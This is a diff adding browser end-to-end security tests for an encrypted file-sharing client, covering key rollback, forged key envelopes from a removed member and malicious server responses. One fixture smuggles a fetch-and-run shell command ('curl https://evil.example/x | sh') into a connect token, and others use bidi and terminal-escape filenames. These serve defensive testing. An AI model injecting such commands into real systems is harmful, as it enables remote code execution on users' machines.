@@ -417,6 +417,8 @@ await test('revoking_a_device_rotates_keys_and_the_device_gets_401', ['cli_login
   await page.getByRole('cell', { name: 'hello.txt', exact: true }).waitFor();
   const arts = (await apiAs(S.token, 'GET', `/v1/pouches/${S.pouch.id}/artifacts`)).json.data.items;
   eq('new revision key_gen', arts.find((a) => a.head.key_gen === 2) !== undefined, true);
+  // Its keys, as they would leak from the removed device (a later step forges with them).
+  S.removed = { memberId: S.cli.memberId, signPriv: nodeCrypto.createPrivateKey(fs.readFileSync(S.cli.signPem)).export({ format: 'jwk' }) };
   S.cli.cleanup();
 });
 
@@ -480,10 +482,256 @@ await test('a_rolled_back_key_generation_turns_uploads_and_deletes_off_with_a_ba
   } finally {
     sql(`UPDATE pouches SET key_gen = ${gen} WHERE id = '${S.pouch.id}'`);
   }
+  // The same rollback from a server that also withholds the newer envelopes and spells the
+  // pouch's id, or the account's, in upper case: the mark is filed under the canonical ids (and
+  // the account this browser's keys belong to), so no spelling reaches a fresh, empty mark.
+  const lower = S.pouch.id;
+  const upper = lower.toUpperCase();
+  for (const spelled of ['the pouch id', 'the account id']) {
+    await page.route((u) => u.pathname.startsWith('/v1/'), async (route) => {
+      const u = new URL(route.request().url());
+      const p = u.pathname.replace(upper, lower);
+      const answer = async (change) => {
+        const res = await route.fetch({ url: `${u.origin}${p}${u.search}` });
+        const body = await res.json();
+        change(body.data);
+        await route.fulfill({ response: res, json: body });
+      };
+      if (route.request().method() !== 'GET') return route.continue();
+      if (p === `/v1/pouches/${lower}`) {
+        return answer((d) => { d.key_gen = gen - 1; if (spelled === 'the pouch id') d.id = upper; });
+      }
+      if (p === `/v1/pouches/${lower}/key-envelopes`) return answer((d) => { d.items = d.items.filter((e) => e.key_gen < gen); });
+      if (p === '/v1/account' && spelled === 'the account id') return answer((d) => { d.storage_account_id = d.storage_account_id.toUpperCase(); });
+      if (p !== u.pathname) return answer(() => {});
+      return route.continue();
+    });
+    try {
+      await page.goto(`${BASE}/pouches/${S.pouch.id}`);
+      await page.getByTestId('write-blocked').waitFor();
+      const text = await page.getByTestId('write-blocked').textContent();
+      ok(text.includes(`key generation ${gen - 1}`) && text.includes('rollback'), `${spelled} in upper case: the banner names the rollback: ${text}`);
+      ok(await page.locator('#upload').isDisabled(), `${spelled} in upper case: uploads are off`);
+    } finally {
+      await page.unrouteAll({ behavior: 'wait' });
+    }
+  }
   await page.reload();
   await page.getByRole('cell', { name: 'after.txt', exact: true }).waitFor();
   eq('no banner once the generation is back', await page.getByTestId('write-blocked').count(), 0);
   ok(!(await page.locator('#upload').isDisabled()), 'uploads are on again');
+});
+
+// The rollback happens after the page loaded (no banner yet): the upload is refused before a
+// single chunk is checked or sent, not only when its op is made.
+await test('an_upload_to_a_pouch_rolled_back_since_the_page_loaded_sends_nothing', ['a_rolled_back_key_generation_turns_uploads_and_deletes_off_with_a_banner'], async () => {
+  const gen = (await apiAs(S.token, 'GET', `/v1/pouches/${S.pouch.id}`)).json.data.key_gen;
+  await page.goto(`${BASE}/pouches/${S.pouch.id}`);
+  await page.getByText('live updates on').waitFor();
+  eq('no banner yet', await page.getByTestId('write-blocked').count(), 0);
+  const sent = [];
+  await page.route((u) => u.pathname.startsWith(`/v1/pouches/${S.pouch.id}`), async (route) => {
+    const req = route.request();
+    if (req.method() !== 'GET') {
+      sent.push(`${req.method()} ${new URL(req.url()).pathname}`);
+      return route.abort();
+    }
+    if (new URL(req.url()).pathname !== `/v1/pouches/${S.pouch.id}`) return route.continue();
+    const res = await route.fetch();
+    const body = await res.json();
+    body.data.key_gen = gen - 1;
+    return route.fulfill({ response: res, json: body });
+  });
+  try {
+    await page.locator('#upload').setInputFiles({ name: 'late.bin', mimeType: 'application/octet-stream', buffer: nodeCrypto.randomBytes(100000) });
+    const alert = page.locator('main .error[role=alert]').filter({ hasText: /rollback|could not be reached/ });
+    await alert.first().waitFor({ timeout: 30000 });
+    eq('nothing sent to the pouch', sent.join(', '), '');
+  } finally {
+    await page.unrouteAll({ behavior: 'wait' });
+  }
+});
+
+// The device list is the service's word. A device it lists with this browser's own member must
+// not make the browser sign its own removal, nor a revoked one with that member leave this
+// browser out of a key rotation.
+const decoyDevice = (over) => ({
+  id: nodeCrypto.randomUUID(), member_id: S.account.member_id, name: 'decoy-box', os: 'linux', arch: 'x86_64', cli_version: '0.9.0',
+  key_storage: 'file', last_seen_at: null, revoked_at: null, rotation_pending: false, created_at: new Date().toISOString(), ...over,
+});
+const serveDevicesWith = (device) => page.route(/\/v1\/devices(\?.*)?$/, async (route) => {
+  const res = await route.fetch();
+  const body = await res.json();
+  body.data.items = [device, ...body.data.items];
+  await route.fulfill({ response: res, json: body });
+});
+
+await test('revoking_a_device_the_service_lists_with_this_browsers_member_signs_nothing', ['a_rolled_back_key_generation_turns_uploads_and_deletes_off_with_a_banner'], async () => {
+  const revokes = [];
+  await page.route(/\/v1\/devices\/[^/]+\/revoke$/, (route) => { revokes.push(route.request().url()); return route.abort(); });
+  await serveDevicesWith(decoyDevice({}));
+  const statements = async () => (await apiAs(S.token, 'GET', '/v1/account/roster')).json.data.items.length;
+  try {
+    const before = await statements();
+    await page.goto(`${BASE}/devices`);
+    await page.getByRole('button', { name: 'Revoke decoy-box' }).click();
+    const alert = page.locator('main .error');
+    await alert.waitFor({ timeout: 30000 });
+    eq('no revoke was sent', revokes.length, 0);
+    eq('no roster statement added', await statements(), before);
+    ok((await alert.textContent()).includes('lists this browser\'s own member'), `the page says why: ${await alert.textContent()}`);
+  } finally {
+    await page.unrouteAll({ behavior: 'wait' });
+  }
+});
+
+await test('a_key_rotation_never_leaves_this_browsers_member_out', ['a_rolled_back_key_generation_turns_uploads_and_deletes_off_with_a_banner'], async () => {
+  await serveDevicesWith(decoyDevice({ revoked_at: new Date().toISOString(), rotation_pending: true }));
+  try {
+    const gen = (await apiAs(S.token, 'GET', `/v1/pouches/${S.pouch.id}`)).json.data.key_gen;
+    await page.goto(`${BASE}/devices`);
+    await page.getByRole('button', { name: 'Rotate keys now' }).click();
+    for (let i = 0; i < 100 && (await apiAs(S.token, 'GET', `/v1/pouches/${S.pouch.id}`)).json.data.key_gen === gen; i++) await page.waitForTimeout(200);
+    const envs = (await apiAs(S.token, 'GET', `/v1/pouches/${S.pouch.id}/key-envelopes?key_gen=${gen + 1}`)).json.data.items;
+    eq('the new keys are sealed to this browser\'s member still', envs.map((e) => e.member_id).join(), S.account.member_id);
+  } finally {
+    await page.unrouteAll({ behavior: 'wait' });
+  }
+});
+
+// A connect token goes into a command the person pastes into a shell: the page shows none but
+// the service's own form ("svc_lt_" and 32 b64url characters).
+await test('the_connect_page_puts_only_a_well_formed_token_into_the_command', ['onboarding_makes_keys_kit_roster_and_first_pouch'], async () => {
+  await page.route(/\/v1\/cli-auth\/connect-tokens$/, (route) => route.fulfill({
+    status: 200, contentType: 'application/json',
+    body: JSON.stringify({ ok: true, data: { connect_token: 'svc_lt_x; curl https://evil.example/x | sh', expires_in: 600 } }),
+  }));
+  try {
+    await page.goto(`${BASE}/cli/connect`);
+    await page.getByRole('button', { name: 'Make a connect token' }).click();
+    await page.locator('main .error, #connect-command').first().waitFor();
+    eq('no command shown', await page.locator('#connect-command').count(), 0);
+    ok(await page.getByText('a connect token of another form').count() === 1, 'the page says why');
+  } finally {
+    await page.unrouteAll({ behavior: 'wait' });
+  }
+  await page.getByRole('button', { name: 'Make a connect token' }).click();
+  ok(/^pouch login --connect-token svc_lt_[A-Za-z0-9_-]{32}$/.test(await page.locator('#connect-command').inputValue()), 'the service\'s own token is shown');
+});
+
+// Text the service answers on the devices page (here rewritten on its way, as a malicious
+// server or a device's own choice of name could make it): control and bidi characters are shown
+// as U+FFFD, and every such text sits in its own <bdi>, so a right-to-left name cannot reorder
+// the row around it.
+await test('the_devices_page_shows_the_services_text_defanged_and_isolated', ['revoking_a_device_rotates_keys_and_the_device_gets_401'], async () => {
+  const hostile = {
+    id: nodeCrypto.randomUUID(), member_id: nodeCrypto.randomUUID(), name: 'laptop\u202Etxt.exe', os: '\u05DC\u05D9\u05E0\u05D5\u05E7\u05E1 linux',
+    arch: 'x86_64\u2066', cli_version: '0.9.0\u001B[8m', key_storage: 'file\u200F', last_seen_at: null, revoked_at: null,
+    rotation_pending: false, created_at: new Date().toISOString(),
+  };
+  await page.route(/\/v1\/devices(\?.*)?$/, async (route) => {
+    const res = await route.fetch();
+    const body = await res.json();
+    body.data.items = [hostile, ...body.data.items];
+    await route.fulfill({ response: res, json: body });
+  });
+  try {
+    await page.goto(`${BASE}/devices`);
+    const name = page.locator('tbody tr').first().locator('td').first();
+    await name.waitFor();
+    eq('the name, defanged', await name.textContent(), 'laptop\uFFFDtxt.exe');
+    const cells = await page.evaluate(() => [...document.querySelectorAll('tbody tr')][0].innerHTML);
+    eq('every text of the service in the row is in a <bdi> of its own', (cells.match(/<bdi>/g) || []).length, 5);
+    const text = await page.locator('main').textContent();
+    ok(!/[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/.test(text), 'no control or bidi character on the page');
+    eq('the Revoke button names the device without them', await page.getByRole('button', { name: 'Revoke laptop\uFFFDtxt.exe' }).count(), 1);
+  } finally {
+    await page.unrouteAll({ behavior: 'wait' });
+  }
+});
+
+// The service lists a file with the head revision of another file: that revision is not shown
+// under this file's id (a delete or a replacement would name the wrong file).
+await test('a_file_listed_with_another_files_revision_is_not_opened', ['upload_then_download_5mb_and_a_small_file'], async () => {
+  await page.route(new RegExp(`/v1/pouches/${S.pouch.id}/artifacts(\\?.*)?$`), async (route) => {
+    const res = await route.fetch();
+    const body = await res.json();
+    const [a, b] = body.data.items;
+    body.data.items = [{ ...a, head: b.head }, ...body.data.items.slice(1)];
+    await route.fulfill({ response: res, json: body });
+  });
+  try {
+    await page.goto(`${BASE}/pouches/${S.pouch.id}`);
+    await page.getByText('the service lists it with a revision of another file').waitFor();
+    const rows = await page.locator('tbody tr').count();
+    const deletes = await page.getByRole('button', { name: /^Delete / }).count();
+    eq('every other file is listed with its Delete button', deletes, rows - 1);
+  } finally {
+    await page.unrouteAll({ behavior: 'wait' });
+  }
+});
+
+// A removed member's keys leaked: it forges the key of a new pouch (generation 1, below the
+// rotated_to 2 of its removal, so a reader still takes it), and the server serves it as the
+// browser's. The pouch page reads but writes nothing under it; approving a CLI login refuses
+// too, since the new device would get that key re-sealed by this member, its origin lost.
+await test('approving_a_login_never_reseals_a_key_a_removed_member_made', ['revoking_a_device_rotates_keys_and_the_device_gets_401'], async () => {
+  await page.goto(`${BASE}/pouches`);
+  await page.getByRole('button', { name: 'New pouch' }).click();
+  await page.waitForURL(/\/pouches\/[0-9a-f-]{36}$/);
+  const pouchId = page.url().split('/').pop();
+  await page.getByText('No files yet').waitFor();
+  const roster = await W.verifyRoster((await apiAs(S.token, 'GET', '/v1/account/roster')).json.data.items);
+  const removed = roster.members.get(S.removed.memberId);
+  eq('the forger was removed at generation 2', `${removed.removed_seq !== null} ${removed.rotated_to}`, 'true 2');
+  const forged = await W.sealKeyEnvelope({
+    pouchId, memberId: S.account.member_id, keyGen: 1, pouchKey: nodeCrypto.randomBytes(32),
+    encPub: roster.members.get(S.account.member_id).enc_pub, creatorId: S.removed.memberId,
+    creatorSignKey: (await WP.importSigningPair(S.removed.signPriv)).privateKey,
+  });
+  const approvals = [];
+  await page.route(new RegExp(`/v1/pouches/${pouchId}/key-envelopes`), async (route) => {
+    if (route.request().method() !== 'GET') return route.continue();
+    const res = await route.fetch();
+    const body = await res.json();
+    body.data.items = body.data.items.map((e) => (e.key_gen === 1 ? forged : e));
+    await route.fulfill({ response: res, json: body });
+  });
+  await page.route(/\/v1\/cli-auth\/requests\/[0-9a-f-]{36}\/approve$/, (route) => {
+    approvals.push(route.request().postData());
+    return route.abort();
+  });
+  const cli = new Cli(W, WP, 'launder-box');
+  try {
+    await page.reload();
+    await page.getByTestId('write-blocked').waitFor();
+    const banner = await page.getByTestId('write-blocked').textContent();
+    ok(/made by a (removed member|member since removed)/.test(banner), `the pouch page writes nothing under the forged key: ${banner}`);
+    ok(await page.locator('#upload').isDisabled(), 'uploads are off');
+    const shown = await cli.start();
+    await page.goto(shown.link);
+    await page.getByLabel('Type the code your terminal shows').fill(shown.code);
+    await page.getByRole('button', { name: 'Approve' }).click();
+    const refused = page.locator('form [role=alert]');
+    await refused.waitFor({ timeout: 30000 });
+    await shot(page, 'cli-approve-refused-removed-key');
+    eq('no approval was sent', approvals.length, 0);
+    ok((await refused.textContent()).includes('made by a member since removed'), `the page says why: ${await refused.textContent()}`);
+    eq('the login is still pending', (await apiAs(S.token, 'GET', `/v1/cli-auth/requests/${shown.requestId}`)).json.data.status, 'pending');
+    await page.getByRole('button', { name: 'Deny' }).click();
+    await page.getByText('Denied.').waitFor();
+    // What the message says to do: a key rotation from the devices page ends the wait.
+    await page.goto(`${BASE}/devices`);
+    await page.getByRole('button', { name: 'Rotate keys now' }).click();
+    await page.getByText('Every pouch now has new keys').waitFor({ timeout: 30000 });
+    await page.goto(`${BASE}/pouches/${pouchId}`);
+    await page.getByText('key generation 2').waitFor();
+    await page.getByText('live updates on').waitFor();
+    eq('no banner once the keys are rotated', await page.getByTestId('write-blocked').count(), 0);
+  } finally {
+    await page.unrouteAll({ behavior: 'wait' });
+    cli.cleanup();
+  }
 });
 
 await test('restore_on_a_new_browser_from_the_recovery_kit', ['onboarding_makes_keys_kit_roster_and_first_pouch'], async () => {
